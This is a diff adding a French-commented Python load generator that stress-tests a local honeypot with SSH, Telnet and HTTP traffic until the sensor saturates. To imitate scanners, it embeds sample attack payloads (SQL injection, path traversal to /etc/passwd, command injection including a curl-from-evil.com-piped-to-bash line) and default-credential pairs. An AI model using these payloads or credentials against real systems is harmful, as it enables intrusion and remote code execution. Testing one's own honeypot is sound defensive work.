@@ -0,0 +1,295 @@
+#!/usr/bin/env python3
+"""
+Générateur de charge asynchrone pour les services du honeypot
+Ouvre des connexions SSH, Telnet et HTTP à un débit cible (boucle ouverte)
+avec une concurrence bornée, et mesure le débit atteint, les latences de
+connexion et de handshake, les erreurs et les refus par service. En mode
+rampe, le débit est augmenté par paliers jusqu'à saturation du capteur.
+
+Usage: python load_generator.py [--rate 200] [--duration 30] [--concurrency 500]
+                                [--mix ssh=3,telnet=2,http_recon=3,http_sqli=1]
+                                [--ramp --max-rate 20000]
+"""
+
+import argparse
+import asyncio
+import random
+import time
+from urllib.parse import quote
+
+from load_stats import OutcomeStats
+
+# Configuration (mêmes ports que simulate_attacks.py)
+HONEYPOT_HOST = "localhost"
+HTTP_PORT = 8080
+SSH_PORT = 2222
+TELNET_PORT = 2323
+
+STAGES = ('connect', 'handshake', 'total')
+
+# Mix de scénarios par défaut (poids relatifs)
+DEFAULT_MIX = {
+    'ssh': 3,
+    'telnet': 2,
+    'http_recon': 3,
+    'http_sqli': 1,
+    'http_traversal': 1,
+    'http_cmdi': 1
+}
+
+HTTP_REQUESTS = {
+    'http_recon': [('GET', path, None) for path in
+                   ('/', '/admin', '/wp-admin', '/phpmyadmin', '/.env', '/config.php', '/.git')],
+    'http_sqli': [('GET', f"/login?user={quote(payload)}", None) for payload in
+                  ("' OR '1'='1", "' UNION SELECT * FROM users--", "admin' AND 1=1#")],
+    'http_traversal': [('GET', path, None) for path in
+                       ('/../../../etc/passwd', '/files/../../config.php', '/static/../../../var/log/auth.log')],
+    'http_cmdi': [('POST', '/execute', f"cmd={quote(payload)}") for payload in
+                  ('; cat /etc/passwd', '| whoami', '$(curl http://evil.com/shell.sh | bash)')]
+}
+
+CREDENTIALS = [('root', 'root'), ('admin', 'admin'), ('admin', '123456'), ('user', 'password'), ('pi', 'raspberry')]
+CLIENT_BANNERS = [b"SSH-2.0-OpenSSH_7.4\r\n", b"SSH-2.0-libssh_0.9.6\r\n", b"SSH-2.0-Go\r\n"]
+
+
+class LoadGenerator:
+    """Exécute un mix de scénarios à débit cible et collecte les statistiques par service"""
+
+    def __init__(self, host=HONEYPOT_HOST, ports=None, mix=None, concurrency=500, timeout=5.0, seed=42):
+        self.host = host
+        self.ports = ports or {'ssh': SSH_PORT, 'telnet': TELNET_PORT, 'http': HTTP_PORT}
+        self.mix = mix or DEFAULT_MIX
+        self.concurrency = concurrency
+        self.timeout = timeout
+        self.rng = random.Random(seed)
+        self.scenarios = {
+            'ssh': self.ssh_banner_exchange,
+            'telnet': self.telnet_login,
+            **{name: self.http_request for name in HTTP_REQUESTS}
+        }
+        unknown = set(self.mix) - set(self.scenarios)
+        if unknown:
+            raise ValueError(f"Scénarios inconnus: {', '.join(sorted(unknown))} "
+                             f"(disponibles: {', '.join(self.scenarios)})")
+
+    # === Scénarios ===
+
+    async def _connect(self, service, stats, start):
+        reader, writer = await asyncio.open_connection(self.host, self.ports[service])
+        stats.record('connect', time.perf_counter() - start)
+        return reader, writer
+
+    async def ssh_banner_exchange(self, scenario, stats, start):
+        """Lecture du banner serveur puis envoi du banner client"""
+        reader, writer = await self._connect('ssh', stats, start)
+        try:
+            banner = await reader.readline()
+            if not banner.startswith(b'SSH-'):
+                raise ProtocolError('banner')
+            stats.record('handshake', time.perf_counter() - start)
+            writer.write(self.rng.choice(CLIENT_BANNERS))
+            await writer.drain()
+            await reader.read(1024)  # "Permission denied"
+        finally:
+            writer.close()
+
+    async def telnet_login(self, scenario, stats, start):
+        """Invite Login/Password puis identifiants"""
+        reader, writer = await self._connect('telnet', stats, start)
+        try:
+            username, password = self.rng.choice(CREDENTIALS)
+            await reader.readuntil(b'Login: ')
+            stats.record('handshake', time.perf_counter() - start)
+            writer.write(username.encode() + b"\r\n")
+            await writer.drain()
+            await reader.readuntil(b'Password: ')
+            writer.write(password.encode() + b"\r\n")
+            await writer.drain()
+            await reader.read(1024)  # "Login incorrect"
+        finally:
+            writer.close()
+
+    async def http_request(self, scenario, stats, start):
+        """Requête HTTP/1.1 (Connection: close), handshake = réception de la ligne de statut"""
+        reader, writer = await self._connect('http', stats, start)
+        try:
+            method, path, body = self.rng.choice(HTTP_REQUESTS[scenario])
+            request = (f"{method} {path} HTTP/1.1\r\nHost: {self.host}\r\n"
+                       f"User-Agent: load-generator/1.0\r\nConnection: close\r\n")
+            if body:
+                request += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
+            writer.write((request + "\r\n" + (body or '')).encode())
+            await writer.drain()
+            status = await reader.readline()
+            if not status.startswith(b'HTTP/'):
+                raise ProtocolError('status')
+            stats.record('handshake', time.perf_counter() - start)
+            while await reader.read(65536):
+                pass
+        finally:
+            writer.close()
+
+    # === Exécution ===
+
+    async def _run_one(self, scenario, stats, semaphore):
+        start = time.perf_counter()
+        try:
+            await asyncio.wait_for(self.scenarios[scenario](scenario, stats, start), self.timeout)
+            stats.ok += 1
+            stats.record('total', time.perf_counter() - start)
+        except ConnectionRefusedError:
+            stats.error('refused')
+        except asyncio.TimeoutError:
+            stats.error('timeout')
+        except (ConnectionResetError, BrokenPipeError, asyncio.IncompleteReadError):
+            stats.error('reset')
+        except ProtocolError as e:
+            stats.error(f"protocol:{e}")
+        except OSError as e:
+            stats.error(type(e).__name__)
+        finally:
+            semaphore.release()
+
+    async def run(self, rate, duration):
+        """Lance des connexions à `rate`/s (0 = aussi vite que la concurrence le permet)
+
+        Retourne (débit atteint, statistiques par service).
+        """
+        services = {'ssh': 'ssh', 'telnet': 'telnet', **{name: 'http' for name in HTTP_REQUESTS}}
+        stats = {service: OutcomeStats(STAGES) for service in set(services[s] for s in self.mix)}
+        names = list(self.mix)
+        weights = [self.mix[name] for name in names]
+
+        semaphore = asyncio.Semaphore(self.concurrency)
+        tasks = set()
+        interval = 1 / rate if rate else 0
+        started = time.perf_counter()
+        next_start = started
+        launched = 0
+
+        while time.perf_counter() - started < duration:
+            if interval:
+                delay = next_start - time.perf_counter()
+                if delay > 0:
+                    await asyncio.sleep(delay)
+                next_start += interval
+            # Concurrence maximale atteinte: on attend (le débit atteint baisse)
+            await semaphore.acquire()
+            scenario = self.rng.choices(names, weights)[0]
+            service_stats = stats[services[scenario]]
+            service_stats.attempts += 1
+            task = asyncio.create_task(self._run_one(scenario, service_stats, semaphore))
+            tasks.add(task)
+            task.add_done_callback(tasks.discard)
+            launched += 1
+
+        elapsed = time.perf_counter() - started
+        if tasks:
+            await asyncio.wait(tasks)
+        return launched / elapsed, stats
+
+
+class ProtocolError(Exception):
+    """Réponse inattendue du service"""
+
+
+def parse_mix(value):
+    """'ssh=3,http_recon=1' -> {'ssh': 3, 'http_recon': 1}"""
+    mix = {}
+    for item in value.split(','):
+        name, _, weight = item.partition('=')
+        mix[name.strip()] = float(weight) if weight else 1.0
+    return mix
+
+
+def print_report(target, achieved, stats):
+    label = f"{target:.0f}/s" if target else "max"
+    print(f"\n📊 Débit cible {label} -> atteint {achieved:.0f} connexions/s")
+    print(f"{'Service':<8} {'tentatives':>10} {'ok':>8} {'refus':>7} {'timeouts':>9} {'autres':>7}"
+          f" {'connect p50/p99':>16} {'handshake p50/p99':>18}")
+    for service, s in sorted(stats.items()):
+        connect = s.latencies['connect'].summary()
+        handshake = s.latencies['handshake'].summary()
+        others = s.failed - s.errors['refused'] - s.errors['timeout']
+        print(f"{service:<8} {s.attempts:>10} {s.ok:>8} {s.errors['refused']:>7} {s.errors['timeout']:>9} {others:>7}"
+              f" {connect['p50_ms']:>7.1f}/{connect['p99_ms']:<7.1f}ms"
+              f" {handshake['p50_ms']:>8.1f}/{handshake['p99_ms']:<7.1f}ms")
+        if others:
+            details = ', '.join(f"{kind}: {count}" for kind, count in s.errors.most_common()
+                                if kind not in ('refused', 'timeout'))
+            print(f"{'':<8} erreurs: {details}")
+
+
+def saturated(target, achieved, stats, max_error_rate, max_p99_ms):
+    """Le capteur décroche: débit non tenu, trop d'erreurs ou latence de handshake excessive"""
+    attempts = sum(s.attempts for s in stats.values())
+    failed = sum(s.failed for s in stats.values())
+    p99 = max(s.latencies['handshake'].summary()['p99_ms'] for s in stats.values())
+    reasons = []
+    if target and achieved < 0.9 * target:
+        reasons.append(f"débit atteint {achieved:.0f}/s < 90% de {target:.0f}/s")
+    if attempts and failed / attempts > max_error_rate:
+        reasons.append(f"{failed / attempts:.1%} d'échecs")
+    if p99 > max_p99_ms:
+        reasons.append(f"handshake p99 {p99:.0f} ms")
+    return reasons
+
+
+async def main_async(args, generator):
+    if not args.ramp:
+        achieved, stats = await generator.run(args.rate, args.duration)
+        print_report(args.rate, achieved, stats)
+        return
+
+    # Rampe: paliers de débit croissants jusqu'à saturation
+    rate = args.rate
+    ceiling = None
+    while rate <= args.max_rate:
+        achieved, stats = await generator.run(rate, args.duration)
+        print_report(rate, achieved, stats)
+        reasons = saturated(rate, achieved, stats, args.max_error_rate, args.max_p99)
+        if reasons:
+            print(f"\n🛑 Saturation à {rate:.0f}/s: {', '.join(reasons)}")
+            break
+        ceiling = achieved
+        rate *= args.ramp_factor
+
+    if ceiling:
+        print(f"\n✅ Plafond soutenu du capteur: ~{ceiling:.0f} connexions/s")
+    else:
+        print("\n⚠️  Saturation dès le premier palier, réduisez --rate")
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument('--host', default=HONEYPOT_HOST)
+    parser.add_argument('--ssh-port', type=int, default=SSH_PORT)
+    parser.add_argument('--telnet-port', type=int, default=TELNET_PORT)
+    parser.add_argument('--http-port', type=int, default=HTTP_PORT)
+    parser.add_argument('--rate', type=float, default=200, help='connexions/s (0 = maximum)')
+    parser.add_argument('--duration', type=float, default=30, help='durée (s) du test ou de chaque palier')
+    parser.add_argument('--concurrency', type=int, default=500, help='connexions simultanées maximum')
+    parser.add_argument('--timeout', type=float, default=5.0, help='timeout (s) par scénario')
+    parser.add_argument('--mix', default=','.join(f"{k}={v}" for k, v in DEFAULT_MIX.items()),
+                        help=f"poids des scénarios ({', '.join(DEFAULT_MIX)})")
+    parser.add_argument('--ramp', action='store_true', help='augmente le débit jusqu\'à saturation')
+    parser.add_argument('--ramp-factor', type=float, default=1.5)
+    parser.add_argument('--max-rate', type=float, default=50_000)
+    parser.add_argument('--max-error-rate', type=float, default=0.05)
+    parser.add_argument('--max-p99', type=float, default=1000, help='p99 de handshake maximum (ms)')
+    args = parser.parse_args()
+    if args.ramp and not args.rate:
+        parser.error("--ramp nécessite un débit de départ (--rate > 0)")
+    try:
+        ports = {'ssh': args.ssh_port, 'telnet': args.telnet_port, 'http': args.http_port}
+        generator = LoadGenerator(args.host, ports, parse_mix(args.mix), args.concurrency, args.timeout)
+    except ValueError as e:
+        parser.error(str(e))
+
+    print("🎯 Générateur de charge Honeypot")
+    print(f"   Cible: {args.host} (SSH {args.ssh_port}, Telnet {args.telnet_port}, HTTP {args.http_port})")
+    asyncio.run(main_async(args, generator))
+
+
+if __name__ == "__main__":
+    main()